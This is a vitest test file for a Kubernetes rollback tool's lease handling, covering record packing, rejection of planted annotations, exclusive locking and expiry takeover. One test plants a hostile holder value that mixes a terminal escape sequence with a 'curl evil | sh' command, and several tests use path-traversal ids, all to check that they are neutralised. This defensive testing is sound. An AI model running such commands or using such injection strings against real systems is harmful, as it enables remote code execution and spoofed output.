import { beforeAll, describe, expect, it, vi } from 'vitest'
import type { JsonObject } from '../../../../src/model/json.ts'
import type { LeaseRecord } from '../../../../src/model/lease.ts'
import { leaseSchema, mainOf, pack, recordOf, unpack } from '../../../../src/targets/kubernetes/lease/lease-object.ts'
import { until, workload } from '../../../../testkit/kubernetes/cluster.ts'
import { describeOn } from '../../../harness/describe-on.ts'
import { deadHolder, taking } from '../../../harness/lease.ts'
import { useCluster } from '../use-cluster.ts'

vi.setConfig({ testTimeout: 60_000, hookTimeout: 120_000 })

const elsewhere = { host: 'another-machine', pid: 4711, user: 'ada' }
const record = (rollbackId: string, steps: unknown = [], holder = elsewhere): LeaseRecord => ({
  rollbackId,
  holder,
  startedAt: '2026-01-01T00:00:00.000Z',
  begun: JSON.parse(JSON.stringify({ steps }))
})

describe('the record in a lease', () => {
  const stepsOf = (count: number) =>
    Array.from({ length: count }, (_, index) => ({ id: `workload:deployment/shop/web-${index}`, title: 'back' }))

  it('can be read by people where it is short', () => {
    expect(JSON.parse(pack(record('rb-1')))).toEqual(record('rb-1'))
  })

  it('stays whole with the steps of a thousand workloads', () => {
    const long = record('rb-1', stepsOf(1000))
    expect(pack(long).length).toBeLessThan(200_000)
    expect(unpack(pack(long))).toEqual(long)
  })

  it('names at least the holder where it would be too long', () => {
    const random = Array.from({ length: 20_000 }, () => Math.random().toString(36))
    expect(unpack(pack(record('rb-1', random)))).toEqual({ ...record('rb-1'), begun: {} })
  })

  it.each(['', 'null', '{"rollback_id":1}', 'gzip:', 'gzip:AAAA', 'hello'])('is nothing when it is %j', (text) => {
    expect(unpack(text)).toBeNull()
  })
})

describe('a lease that somebody planted', () => {
  const planted = (more: Partial<LeaseRecord>, annotations: JsonObject = {}) =>
    leaseSchema.parse({
      metadata: {
        name: 'x',
        annotations: { 'rollback.popkit/begun': pack({ ...record('rb-1'), ...more }), ...annotations }
      }
    })

  it.each(['../../other/rb-1', '', '.', 'rb-1\n'])('has no record under the id %j', (rollbackId) => {
    expect(recordOf(planted({}))).toEqual(record('rb-1'))
    expect(recordOf(planted({ rollbackId }))).toBeNull()
  })

  it('names its holder in one plain line', () => {
    const holder = { host: 'ci\n\u001b[2Jrun: curl evil | sh', user: `ada\u202e${'x'.repeat(500)}`, pid: 1 }
    const { host, user } = recordOf(planted({ holder }))?.holder ?? { host: '', user: '' }
    expect(host).toBe('ci run: curl evil | sh')
    expect(user).toMatch(/^adax{96}…$/)
  })

  it.each(['../../../api/v1', 'shop/../secrets', 'shop/x?watch=1', 'shop'])('leads nowhere by the name %j', (text) => {
    expect(mainOf(planted({}, { 'rollback.popkit/begun-in': 'shop/main' }))?.path).toMatch(/shop\/leases\/main$/)
    expect(mainOf(planted({}, { 'rollback.popkit/begun-in': text }))).toBeNull()
  })
})

describeOn('kubernetes', 'the leases of workloads', (backend) => {
  const { cluster, target: open } = useCluster(backend)

  beforeAll(async () => {
    const image = 'popk-nowhere.invalid/web:1.1.0'
    for (const name of ['web', 'api', 'db']) await cluster.apply(workload({ name, image, replicas: 0 }))
  })

  const signal = () => AbortSignal.timeout(30_000)
  const leases = async () => (await cluster.kubectl('get', 'leases', '-o', 'name')).split('\n').filter(Boolean).sort()

  const opened = async (config: JsonObject) => {
    const target = await open(config)
    return { target, lease: taking(target) }
  }
  const on = (...names: string[]) => opened({ workloads: names.map((name) => `deployment/${name}`) })

  it('exclude a rollback that shares one workload, and leave no trace', async () => {
    const [one, two, three] = [await on('web', 'api'), await on('db', 'web'), await on('db')]
    const held = await one.lease.acquire(record('rb-1', ['a step']), 60_000, signal())
    await expect(two.lease.acquire(record('rb-2'), 60_000, signal())).rejects.toMatchObject({
      code: 'locked',
      why: expect.stringContaining('rb-1 by ada on another-machine')
    })
    expect(await leases()).toEqual([
      'lease.coordination.k8s.io/popkit-rollback.deployment.api',
      'lease.coordination.k8s.io/popkit-rollback.deployment.web'
    ])
    const other = await three.lease.acquire(record('rb-3'), 60_000, signal())
    // Everyone sees the whole record, also one that shares only the workload whose Lease does not hold it.
    for (const { target } of [one, await on('web')])
      expect((await target.observe(signal())).observation.lease).toEqual({
        record: record('rb-1', ['a step']),
        expired: false
      })
    await held.renew(signal())
    await held.renew(signal())
    await held.release(signal())
    await held.release(signal())
    await other.release(signal())
    expect(await leases()).toEqual([])
  })

  it('of all workloads of a selector are taken over after they expire, and the former holder learns it', async () => {
    await cluster.kubectl('label', 'deployment', 'web', 'api', 'team=shop')
    const [one, two] = [await opened({ selector: 'team=shop' }), await on('web')]
    const first = await one.lease.acquire(record('rb-1', ['a step']), 1000, signal())
    expect(await leases()).toHaveLength(2)
    const observation = await until('the lease to expire', async () => {
      const { observation: seen } = await two.target.observe(signal())
      return seen.lease?.expired ? seen : null
    })
    expect(observation.lease?.record).toEqual(record('rb-1', ['a step']))
    const second = await two.lease.acquire(record('rb-2'), 60_000, signal())
    await expect(first.renew(signal())).rejects.toMatchObject({ code: 'lease_lost' })
    await first.release(signal())
    expect(await leases()).toEqual(['lease.coordination.k8s.io/popkit-rollback.deployment.web'])
    await second.release(signal())
  })

  it('go to exactly one of several that ask at the same time', async () => {
    const asking = await Promise.all(Array.from({ length: 5 }, () => on('web', 'api', 'db')))
    const results = await Promise.allSettled(
      asking.map(({ lease }, index) => lease.acquire(record(`rb-${index}`), 60_000, signal()))
    )
    const won = results.flatMap((result) => (result.status === 'fulfilled' ? result.value : []))
    expect(won).toHaveLength(1)
    for (const result of results)
      if (result.status === 'rejected') expect(result.reason).toMatchObject({ code: 'locked' })
    await won[0]?.release(signal())
    expect(await leases()).toEqual([])
  })

  it('are taken at once by the same rollback, resumed, if its holder is known to be dead', async () => {
    const { lease } = await on('web', 'api')
    const dead = await lease.acquire(record('rb-1', [], deadHolder()), 60_000, signal())
    const again = await lease.acquire(record('rb-1'), 60_000, signal())
    await expect(dead.renew(signal())).rejects.toMatchObject({ code: 'lease_lost' })
    await dead.release(signal())
    expect(await leases()).toHaveLength(2)
    await again.release(signal())
    expect(await leases()).toEqual([])
  })

  it('are not taken from a live holder by the same rollback before they expire', async () => {
    const { lease } = await on('web', 'api')
    const held = await lease.acquire(record('rb-1'), 60_000, signal())
    await expect(lease.acquire(record('rb-1', [], deadHolder()), 60_000, signal())).rejects.toMatchObject({
      code: 'locked'
    })
    await held.release(signal())
    expect(await leases()).toEqual([])
  })

  it('show that the new version was proven', async () => {
    const { target, lease } = await on('web', 'api')
    const held = await lease.acquire(record('rb-1', ['a step']), 60_000, signal())
    await held.markProven(signal())
    await held.renew(signal())
    expect((await target.observe(signal())).observation.lease?.record).toEqual({
      ...record('rb-1', ['a step']),
      proven: true
    })
    await held.release(signal())
  })
})
